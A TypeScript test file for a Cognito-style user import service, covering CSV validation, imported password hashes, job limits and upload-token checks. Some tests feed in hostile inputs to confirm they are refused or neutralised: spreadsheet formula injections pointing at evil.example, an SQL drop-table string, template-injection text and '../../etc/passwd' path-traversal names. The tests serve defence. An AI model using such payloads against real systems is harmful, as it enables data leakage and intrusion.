import { pbkdf2Sync, scryptSync } from "node:crypto";
import { hash as argon2 } from "@node-rs/argon2";
import { hash as bcrypt } from "@node-rs/bcrypt";
import { describe, expect, it } from "vitest";
import { useHouse } from "../../test/support/house.ts";
import {
  CloudWatchLogsRoleArn,
  endedJob,
  fileOf,
  headerOf,
  importFile,
  newImportJob,
  personRow,
  putFile,
} from "../../test/support/importing.ts";
import { makePool, password } from "../../test/support/pool.ts";
import { refusalOf } from "../../test/support/refusal.ts";
import { toJson } from "../lib/json-text.ts";
import { findPassword } from "../passwords/store.ts";
import { resumeImports } from "./run.ts";

const house = useHouse();

const client = { GenerateSecret: false, ExplicitAuthFlows: ["ALLOW_USER_PASSWORD_AUTH" as const] };

describe("an import", () => {
  it("has the header of Cognito's files, with the pool's own attributes", async () => {
    const pool = await makePool(house, { pool: { Schema: [{ Name: "tier", AttributeDataType: "String" }] } });
    expect(await headerOf(house, pool)).toEqual([
      "name",
      "given_name",
      "family_name",
      "middle_name",
      "nickname",
      "preferred_username",
      "profile",
      "picture",
      "website",
      "email",
      "email_verified",
      "gender",
      "birthdate",
      "zoneinfo",
      "locale",
      "phone_number",
      "phone_number_verified",
      "address",
      "updated_at",
      "custom:tier",
      "cognito:mfa_enabled",
      "cognito:username",
    ]);
  });

  it("makes users of rows, and names every other row with its line and reason", async () => {
    const pool = await makePool(house, { client });
    await pool.createUser("taken@example.com");
    const header = await headerOf(house, pool);
    const { done, report } = await importFile(
      house,
      pool,
      fileOf(header, [
        personRow("one@example.com", { name: 'Ann "A", Jr.', birthdate: "02/01/1990" }),
        personRow("taken@example.com"),
        personRow("not-an-address"),
        personRow("flag@example.com", { email_verified: "maybe" }),
        personRow("date@example.com", { birthdate: "1990-01-02" }),
        personRow("two@example.com"),
      ]),
    );
    expect(done).toMatchObject({
      Status: "Succeeded",
      ImportedUsers: 2,
      SkippedUsers: 1,
      FailedUsers: 3,
      CompletionMessage: "Import Job Completed Successfully.",
    });
    expect(report.split("\n").slice(0, 4)).toEqual([
      expect.stringMatching(/^\[SKIPPED\] Line Number 3 - /),
      "[FAILED] Line Number 4 - Invalid email address format.",
      "[FAILED] Line Number 5 - email_verified must be TRUE or FALSE",
      "[FAILED] Line Number 6 - birthdate must be mm/dd/yyyy",
    ]);
    const user = await house.api.adminGetUser({ UserPoolId: pool.UserPoolId, Username: "one@example.com" });
    expect(user.UserStatus).toBe("RESET_REQUIRED");
    expect(user.UserAttributes).toContainEqual({ Name: "name", Value: 'Ann "A", Jr.' });
    expect(user.UserAttributes).toContainEqual({ Name: "birthdate", Value: "1990-02-01" });
  });

  it("of users without passwords has them set one by a code", async () => {
    const pool = await makePool(house, { client });
    await importFile(house, pool, fileOf(await headerOf(house, pool), [personRow("reset@example.com")]));
    const { ClientId } = pool;
    const Username = "reset@example.com";
    const signIn = house.api.initiateAuth({
      ClientId,
      AuthFlow: "USER_PASSWORD_AUTH",
      AuthParameters: { USERNAME: Username, PASSWORD: password },
    });
    expect((await refusalOf(signIn)).name).toBe("PasswordResetRequiredException");
    await house.api.forgotPassword({ ClientId, Username });
    await house.api.confirmForgotPassword({
      ClientId,
      Username,
      Password: password,
      ConfirmationCode: await house.codeFor(Username),
    });
    expect((await house.api.adminGetUser({ UserPoolId: pool.UserPoolId, Username })).UserStatus).toBe("CONFIRMED");
  });

  it.each([
    ["BCRYPT", async () => bcrypt(password, 6)],
    ["ARGON2ID", async () => argon2(password, { memoryCost: 4096, timeCost: 3, parallelism: 1 })],
    [
      "SCRYPT",
      async () => {
        const salt = Buffer.from("sixteen bytes ok");
        const text = (bytes: Buffer) => bytes.toString("base64").replace(/=+$/, "");
        return `$scrypt$ln=10,r=8,p=1$${text(salt)}$${text(scryptSync(password, salt, 32, { N: 1024, r: 8, p: 1 }))}`;
      },
    ],
    [
      "PBKDF2_SHA256",
      async () => {
        const salt = Buffer.from("sixteen bytes ok");
        const text = (bytes: Buffer) => bytes.toString("base64").replace(/=+$/, "");
        return `$pbkdf2-sha256$i=10000$${text(salt)}$${text(pbkdf2Sync(password, salt, 10_000, 32, "sha256"))}`;
      },
    ],
  ] as const)(
    "brings %s hashes along, that are made anew when the password is first given",
    async (PasswordHashingAlgorithm, make) => {
      const pool = await makePool(house, { client });
      const email = `${PasswordHashingAlgorithm.toLowerCase()}@example.com`;
      const header = [...(await headerOf(house, pool)), "cognito:password_hash"];
      const { done } = await importFile(
        house,
        pool,
        fileOf(header, [
          personRow(email, { "cognito:password_hash": await make() }),
          personRow("bad@example.com", { "cognito:password_hash": "x" }),
        ]),
        { PasswordHashingAlgorithm },
      );
      expect(done).toMatchObject({ ImportedUsers: 1, FailedUsers: 1 });
      const signIn = (PASSWORD: string) =>
        house.api.initiateAuth({
          ClientId: pool.ClientId,
          AuthFlow: "USER_PASSWORD_AUTH",
          AuthParameters: { USERNAME: email, PASSWORD },
        });
      expect((await refusalOf(signIn("Wr0ng-one!"))).message).toBe("Incorrect username or password.");
      expect((await signIn(password)).AuthenticationResult).toBeTruthy();
      expect((await signIn(password)).AuthenticationResult).toBeTruthy();
    },
  );

  it.each([
    ["$2b$20$", `$2b$20$${"a".repeat(53)}`, "BCRYPT"],
    ["ln=25", `$scrypt$ln=25,r=8,p=1$${"a".repeat(22)}$${"a".repeat(43)}`, "SCRYPT"],
  ] as const)("takes no hash that would take minutes: %s", async (_what, made, PasswordHashingAlgorithm) => {
    const pool = await makePool(house, { client });
    const header = [...(await headerOf(house, pool)), "cognito:password_hash"];
    const file = fileOf(header, [personRow("costly@example.com", { "cognito:password_hash": made })]);
    const { done, report } = await importFile(house, pool, file, { PasswordHashingAlgorithm });
    expect(done).toMatchObject({ Status: "Failed", FailedUsers: 1 });
    expect(report).toContain("has a cost that is not allowed");
  });

  it.each([
    ["an unknown column", "email,shoe_size\na@example.com,44\n"],
    ["no header", ""],
    ["an open quote", `"name`],
  ])("of a file with %s fails and says so", async (_what, file) => {
    const pool = await makePool(house, { client });
    const { done, report } = await importFile(house, pool, file);
    expect(done?.Status).toBe("Failed");
    expect(report).toMatch(/^\[FAILED\] Line Number 1 - /);
  });

  it("INJ-07: keeps what cells hold as it is, and fails row by row", async () => {
    const pool = await makePool(house, { client });
    const header = await headerOf(house, pool);
    const cells = [
      '=HYPERLINK("http://evil.example","x")',
      "+1+1",
      "-1",
      "@sum(a)",
      "two\nlines, and a comma",
      'a "quoted" word',
      ["{{7*7}}", "$", "{7*7} #{7*7}"].join(""),
      "'; drop table users; --",
    ];
    const rows = cells.map((name, index) => personRow(`cell-${index}@example.com`, { name }));
    const bad = [
      personRow("cell-0@example.com"),
      personRow("mfa@example.com", { "cognito:mfa_enabled": "TRUE" }),
      personRow("flags@example.com", { "cognito:mfa_enabled": "" }),
      personRow("long@example.com", { profile: "x".repeat(16_001) }),
      personRow("hidden@example.com", { "cognito:username": "hid\u200bden@example.com" }),
      personRow("contact@example.com", { email: "", email_verified: "TRUE" }),
    ];
    const file = `\ufeff${fileOf(header, [...rows, ...bad])}short,row\n`;
    const { done, report } = await importFile(house, pool, file);
    expect(done).toMatchObject({ Status: "Succeeded", ImportedUsers: cells.length, SkippedUsers: 1, FailedUsers: 6 });
    // The header, a line for each cell and one more for the cell of two lines.
    const first = 1 + cells.length + 1 + 1;
    expect(report.split("\n").slice(0, 7)).toEqual([
      `[SKIPPED] Line Number ${first} - An account with the given email already exists.`,
      `[FAILED] Line Number ${first + 1} - phone_number is required when cognito:mfa_enabled is TRUE`,
      `[FAILED] Line Number ${first + 2} - cognito:mfa_enabled is required`,
      `[FAILED] Line Number ${first + 3} - The row is longer than 16000 characters`,
      `[FAILED] Line Number ${first + 4} - Username contains characters that are not allowed.`,
      `[FAILED] Line Number ${first + 5} - email is required when email_verified is TRUE`,
      `[FAILED] Line Number ${first + 6} - The row has another number of columns than the header`,
    ]);
    for (const [index, value] of cells.entries()) {
      const Username = `cell-${index}@example.com`;
      const { UserAttributes } = await house.api.adminGetUser({ UserPoolId: pool.UserPoolId, Username });
      expect(UserAttributes).toContainEqual({ Name: "name", Value: value });
    }
  });

  it("has no column for passwords in the clear", async () => {
    const pool = await makePool(house, { client });
    const header = [...(await headerOf(house, pool)), "password"];
    expect(header.filter((name) => /password/.test(name))).toEqual(["password"]);
    const { done, report } = await importFile(house, pool, fileOf(header, [personRow("a@example.com", { password })]));
    expect(done).toMatchObject({ Status: "Failed", ImportedUsers: 0 });
    expect(report).toContain("columns that the user pool does not have: password");
  });

  it("takes the rows before one that cannot be read, and names the line", async () => {
    const pool = await makePool(house, { client });
    const rows = Array.from({ length: 130 }, (_, index) => personRow(`before-${index}@example.com`));
    const file = `${fileOf(await headerOf(house, pool), rows)}a,"open quote`;
    const { done, report } = await importFile(house, pool, file);
    expect(done).toMatchObject({ Status: "Succeeded", ImportedUsers: 130, FailedUsers: 1 });
    expect(report).toMatch(/^\[FAILED\] Line Number 132 - Quote Not Closed/);
  });

  it("goes on behind a row that cannot be read, and stops at one that has no end", async () => {
    const pool = await makePool(house, { client });
    const header = await headerOf(house, pool);
    const rows = (name: string) =>
      fileOf(
        header,
        [1, 2].map((index) => personRow(`${name}-${index}@example.com`)),
      );
    const [first = "", ...after] = rows("after").split("\n");
    const file = [
      first,
      ...rows("first").split("\n").slice(1, 3),
      'x,"y" z',
      ...after.slice(0, 2),
      `"${"x".repeat(2_500_000)}`,
    ];
    const { done, report } = await importFile(house, pool, [...file, ...rows("never").split("\n").slice(1)].join("\n"));
    expect(done).toMatchObject({ Status: "Failed", ImportedUsers: 4 });
    expect(report.split("\n").slice(0, 3)).toEqual([
      expect.stringMatching(/^\[FAILED\] Line Number 4 - The row has another number of columns/),
      expect.stringMatching(/^\[FAILED\] Line Number 7 - Quote Not Closed/),
      "[FAILED] Line Number 8 - A row is longer than 2000000 characters: nothing behind it was read",
    ]);
  });

  it("keeps a foreign hash only until its password was given", async () => {
    const pool = await makePool(house, { client });
    const header = [...(await headerOf(house, pool)), "cognito:password_hash"];
    const row = personRow("again@example.com", { "cognito:password_hash": await bcrypt(password, 6) });
    await importFile(house, pool, fileOf(header, [row]), { PasswordHashingAlgorithm: "BCRYPT" });
    const { UserPoolId, ClientId } = pool;
    const user = await house.api.adminGetUser({ UserPoolId, Username: "again@example.com" });
    const sub = user.Username ?? "";
    const kept = async () => {
      const keys = await house.app.vault.poolKeys(house.app.db, UserPoolId);
      const sealed = (await findPassword(house.app.db, { poolId: UserPoolId, sub }))?.sealedHash ?? "";
      return keys.open("pw", { table: "passwords", column: "sealed_hash", row: sub }, sealed);
    };
    expect(await kept()).toMatch(/^\$2/);
    const AuthParameters = { USERNAME: "again@example.com", PASSWORD: password };
    await house.api.initiateAuth({ ClientId, AuthFlow: "USER_PASSWORD_AUTH", AuthParameters });
    await expect.poll(kept).toMatch(/^\$argon2id\$/);
  });

  it("holds the pool's settings still while it runs, one at a time, and can be stopped", async () => {
    const pool = await makePool(house, { client });
    const { UserPoolId } = pool;
    const header = await headerOf(house, pool);
    const job = await newImportJob(house, pool);
    const other = await newImportJob(house, pool);
    const rows = Array.from({ length: 3_000 }, (_, index) => personRow(`user-${index}@example.com`));
    await putFile(job.url, fileOf(header, rows));
    await putFile(other.url, fileOf(header, [personRow("other@example.com")]));
    await house.api.startUserImportJob({ UserPoolId, JobId: job.JobId });
    expect((await refusalOf(house.api.startUserImportJob({ UserPoolId, JobId: other.JobId }))).name).toBe(
      "PreconditionNotMetException",
    );
    expect((await refusalOf(house.api.updateUserPool({ UserPoolId }))).name).toBe("UserImportInProgressException");
    const adding = house.api.addCustomAttributes({
      UserPoolId,
      CustomAttributes: [{ Name: "x", AttributeDataType: "String" }],
    });
    expect((await refusalOf(adding)).name).toBe("UserImportInProgressException");
    await house.api.deleteUserPoolDomain({ UserPoolId, Domain: pool.domain });
    expect((await refusalOf(house.api.deleteUserPool({ UserPoolId }))).name).toBe("UserImportInProgressException");
    await house.api.stopUserImportJob({ UserPoolId, JobId: job.JobId });
    const done = await endedJob(house, job);
    expect(done).toMatchObject({
      Status: "Stopped",
      CompletionMessage: "The Import Job was stopped by the developer.",
    });
    expect(done?.ImportedUsers).toBeLessThan(3_000);
    expect((done?.ImportedUsers ?? 0) % 100).toBe(0);
    await house.api.updateUserPool({ UserPoolId });
    await house.api.startUserImportJob({ UserPoolId, JobId: other.JobId });
    expect(await endedJob(house, other)).toMatchObject({ Status: "Succeeded", ImportedUsers: 1 });
    const jobs = await house.api.listUserImportJobs({ UserPoolId, MaxResults: 1 });
    const rest = await house.api.listUserImportJobs({
      UserPoolId,
      MaxResults: 1,
      PaginationToken: jobs.PaginationToken,
    });
    expect(
      new Set([...(jobs.UserImportJobs ?? []), ...(rest.UserImportJobs ?? [])].map(({ JobId }) => JobId)).size,
    ).toBe(2);
  });

  it("is taken up where its node left it", async () => {
    const pool = await makePool(house, { client });
    const { UserPoolId } = pool;
    const job = await newImportJob(house, pool);
    const rows = Array.from({ length: 250 }, (_, index) => personRow(`again-${index}@example.com`));
    await putFile(job.url, fileOf(await headerOf(house, pool), rows));
    await house.api.startUserImportJob({ UserPoolId, JobId: job.JobId });
    await Promise.all([resumeImports(house.app), resumeImports(house.app), resumeImports(house.app)]);
    expect(await endedJob(house, job)).toMatchObject({
      Status: "Succeeded",
      ImportedUsers: 250,
      SkippedUsers: 0,
      FailedUsers: 0,
    });
  });
});

it("a pool has a thousand jobs at most", async () => {
  const { UserPoolId } = await makePool(house, { client });
  const job = (job_id: string) => ({
    pool_id: UserPoolId,
    job_id,
    name: "job",
    settings: toJson({ logsRoleArn: CloudWatchLogsRoleArn }),
    status: "Expired" as const,
    upload: "",
    rows_done: 0,
    imported: 0,
    skipped: 0,
    failed: 0,
    message: null,
    leased_until: 0,
    created_at: 0,
    started_at: null,
    completed_at: null,
  });
  const jobs = Array.from({ length: 999 }, (_, index) => job(`import-${index}`));
  for (let done = 0; done < jobs.length; done += 333) {
    await house.app.db
      .insertInto("import_jobs")
      .values(jobs.slice(done, done + 333))
      .execute();
  }
  await newImportJob(house, { UserPoolId });
  expect(await refusalOf(newImportJob(house, { UserPoolId }))).toEqual({
    name: "LimitExceededException",
    message: "A user pool can have 1000 import jobs at most.",
  });
});

describe("the address of a file", () => {
  it("takes a file by its token, for fifteen minutes, in UTF-8", async () => {
    const pool = await makePool(house, { client });
    const job = await newImportJob(house, pool);
    expect((await putFile(job.url, Buffer.from([0xff, 0xfe, 0x00]))).status).toBe(400);
    expect((await fetch(job.url, { method: "POST", body: "a" })).status).toBe(405);
    house.clock.advance(15 * 60 * 1000);
    expect((await putFile(job.url, "a")).status).toBe(403);
    expect((await refusalOf(house.api.startUserImportJob({ UserPoolId: job.UserPoolId, JobId: job.JobId }))).name).toBe(
      "PreconditionNotMetException",
    );
    house.clock.advance(24 * 60 * 60 * 1000);
    const look = async () => (await house.api.describeUserImportJob(job)).UserImportJob;
    const expired = { Status: "Expired", CompletionMessage: "The user import job has expired." };
    expect(await look()).toMatchObject(expired);
    await resumeImports(house.app);
    expect(await look()).toMatchObject(expired);
  });

  it.each<{ title: string; change: (url: string, other: string) => string }>([
    { title: "another token", change: (url) => url.replace(/token=.*/, `token=${"A".repeat(43)}`) },
    { title: "no token", change: (url) => url.replace(/\?.*/, "") },
    { title: "a token with one letter more", change: (url) => `${url}A` },
    {
      title: "the token of another job",
      change: (url, other) => url.replace(/token=.*/, `token=${new URL(other).searchParams.get("token")}`),
    },
    { title: "a job that nobody made", change: (url) => url.replace(/import-\w+/, "import-AbCdEfGhIj") },
    { title: "another pool", change: (url) => url.replace(/us-east-1_\w+/, "us-east-1_AbCdEfGhI") },
  ])("INJ-08: is refused with $title", async ({ change }) => {
    const pool = await makePool(house, { client });
    const job = await newImportJob(house, pool, { JobName: ".. etc passwd" });
    const other = await newImportJob(house, pool);
    expect((await putFile(change(job.url, other.url), "a")).status).toBe(403);
    expect((await fetch(change(job.url, other.url).replace(/\?|$/, "/report?"))).status).toBe(403);
    const starting = house.api.startUserImportJob({ UserPoolId: job.UserPoolId, JobId: job.JobId });
    expect((await refusalOf(starting)).message).toBe("The CSV file has not been uploaded.");
    const traversal = newImportJob(house, pool, { JobName: "../../etc/passwd" });
    expect((await refusalOf(traversal)).name).toBe("InvalidParameterException");
  });

  it("takes any type of content, a better file in place of the first, and none after the start", async () => {
    const pool = await makePool(house, { client });
    const header = await headerOf(house, pool);
    const job = await newImportJob(house, pool);
    const put = (file: string, type: string) =>
      fetch(job.url, { method: "PUT", body: file, headers: { "content-type": type } });
    expect((await put(fileOf(header, [personRow("wrong@example.com")]), "application/octet-stream")).status).toBe(200);
    expect((await put(fileOf(header, [personRow("right@example.com")]), "text/csv")).status).toBe(200);
    await house.api.startUserImportJob({ UserPoolId: job.UserPoolId, JobId: job.JobId });
    expect(await endedJob(house, job)).toMatchObject({ ImportedUsers: 1, FailedUsers: 0 });
    const { UserPoolId } = pool;
    expect((await house.api.listUsers({ UserPoolId, Filter: 'email = "right@example.com"' })).Users).toHaveLength(1);
    expect((await put("late", "text/csv")).status).toBe(403);
  });

  it("is refused at once when it says to be larger than a file may be", async () => {
    const { url } = await newImportJob(house, await makePool(house, { client }));
    const request = new Request(url, { method: "PUT", body: "a" });
    const headers: [string, string][] = [...request.headers, ["content-length", String(100 * 1024 * 1024 + 1)]];
    expect((await house.handle(new Request(url, { method: "PUT", body: "a", headers }))).status).toBe(413);
  });

  it("has no half of a file: a job that starts meanwhile, or another file, wins", async () => {
    const pool = await makePool(house, { client });
    const header = await headerOf(house, pool);
    const [first, second] = [1, 2].map((count) => fileOf(header, [personRow(`half-${count}@example.com`)]));
    const job = await newImportJob(house, pool);
    let release = (): void => undefined;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const slow = new ReadableStream<Uint8Array>({
      start: async (controller) => {
        controller.enqueue(Buffer.from(first?.slice(0, 20) ?? ""));
        await held;
        controller.enqueue(Buffer.from(first?.slice(20) ?? ""));
        controller.close();
      },
    });
    const half = house.handle(new Request(job.url, { method: "PUT", body: slow, duplex: "half" }));
    const start = () => house.api.startUserImportJob({ UserPoolId: job.UserPoolId, JobId: job.JobId });
    expect((await refusalOf(start())).message).toBe("The CSV file has not been uploaded.");
    expect((await putFile(job.url, second ?? "")).status).toBe(200);
    release();
    expect((await half).status).toBe(409);
    await start();
    expect(await endedJob(house, job)).toMatchObject({ Status: "Succeeded", ImportedUsers: 1 });
    const { Users } = await house.api.listUsers({ UserPoolId: pool.UserPoolId, Filter: 'email ^= "half-"' });
    expect(Users?.map(({ Attributes }) => Attributes?.find(({ Name }) => Name === "email")?.Value)).toEqual([
      "half-2@example.com",
    ]);
    const parts = await house.app.db.selectFrom("import_parts").select("job_id").execute();
    expect(parts.filter(({ job_id }) => job_id === job.JobId)).toEqual([]);
  });

  it("forgets a file whose sender went away", async () => {
    const job = await newImportJob(house, await makePool(house, { client }));
    const broken = new ReadableStream<Uint8Array>({
      pull: (controller) => controller.error(new Error("gone")),
    });
    const answer = await house.handle(new Request(job.url, { method: "PUT", body: broken, duplex: "half" }));
    expect(answer.status).toBe(400);
    const parts = await house.app.db.selectFrom("import_parts").select("job_id").execute();
    expect(parts.filter(({ job_id }) => job_id === job.JobId)).toEqual([]);
  });

  it("INJ-08: takes a file only at the address of its own job, whatever a name or an address says", async () => {
    const pool = await makePool(house, { client });
    const { UserPoolId } = pool;
    expect((await refusalOf(newImportJob(house, pool, { JobName: "../../etc/passwd" }))).name).toBe(
      "InvalidParameterException",
    );
    const mine = await newImportJob(house, pool, { JobName: ".. @=+ .." });
    const other = await newImportJob(house, pool, { JobName: "other" });
    expect(new URL(mine.url).pathname).toBe(`/_poolhouse/imports/${UserPoolId}/${mine.JobId}`);
    const token = new URL(mine.url).searchParams.get("token") ?? "";
    const addressOf = (pathname: string, given: string) =>
      `${house.url}${pathname}${given === "" ? "" : `?token=${encodeURIComponent(given)}`}`;
    const ownPath = `/_poolhouse/imports/${UserPoolId}/${mine.JobId}`;
    for (const [path, given] of [
      [`/_poolhouse/imports/${UserPoolId}/${other.JobId}`, token],
      [`/_poolhouse/imports/us-east-1_nothere00/${mine.JobId}`, token],
      [ownPath, ""],
      [ownPath, token.slice(0, -1)],
      [ownPath, `${token}x`],
      [ownPath, token.toUpperCase()],
      [`/_poolhouse/imports/${UserPoolId}/..%2f${mine.JobId}`, token],
      [`/_poolhouse/imports/${UserPoolId}/../${UserPoolId}/${other.JobId}`, token],
      [`${ownPath}/report`, "x"],
    ] as const)
      expect([403, 404, 405], `${path} ${given}`).toContain((await putFile(addressOf(path, given), "a")).status);
    expect((await putFile(mine.url, "a")).status).toBe(200);
    const report = await fetch(other.url.replace("?", "/report?").replace(/token=.*/, `token=${token}`));
    expect([403, 404]).toContain(report.status);
  });

  it("INJ-07: takes hostile rows for texts, or refuses them each with its line, and never a password", async () => {
    const pool = await makePool(house, { client });
    const header = await headerOf(house, pool);
    expect(header.filter((name) => /password/i.test(name))).toEqual([]);
    const formula = '=HYPERLINK("https://evil.example?x="&A1,"click")';
    const file = fileOf(header, [
      personRow("formula@example.com", { name: formula, nickname: "@SUM(1)", given_name: "+1", family_name: "-1" }),
      personRow("lines@example.com", { name: 'two\nlines "quoted"', profile: "\tTAB" }),
      personRow("long@example.com", { name: "x".repeat(16_001) }),
      personRow("twice@example.com"),
      personRow("twice@example.com"),
      personRow("mfa@example.com", { "cognito:mfa_enabled": "TRUE" }),
      personRow("last@example.com"),
    ]);
    const { done, report } = await importFile(house, pool, `\ufeff${file}`);
    const lines = report.trim().split("\n");
    expect([done.ImportedUsers, done.SkippedUsers, done.FailedUsers, lines]).toEqual([
      4,
      1,
      2,
      [
        expect.stringMatching(/^\[FAILED\] Line Number \d+ - /),
        expect.stringMatching(/^\[SKIPPED\] Line Number \d+ - /),
        expect.stringMatching(/^\[FAILED\] Line Number \d+ - .*phone_number/),
        "Imported 4, skipped 1, failed 2.",
      ],
    ]);
    // The report is read in a spreadsheet: nothing in it is a formula.
    expect(lines.filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([]);
    const user = await house.api.adminGetUser({ UserPoolId: pool.UserPoolId, Username: "formula@example.com" });
    expect(user.UserAttributes).toContainEqual({ Name: "name", Value: formula });
  });
});
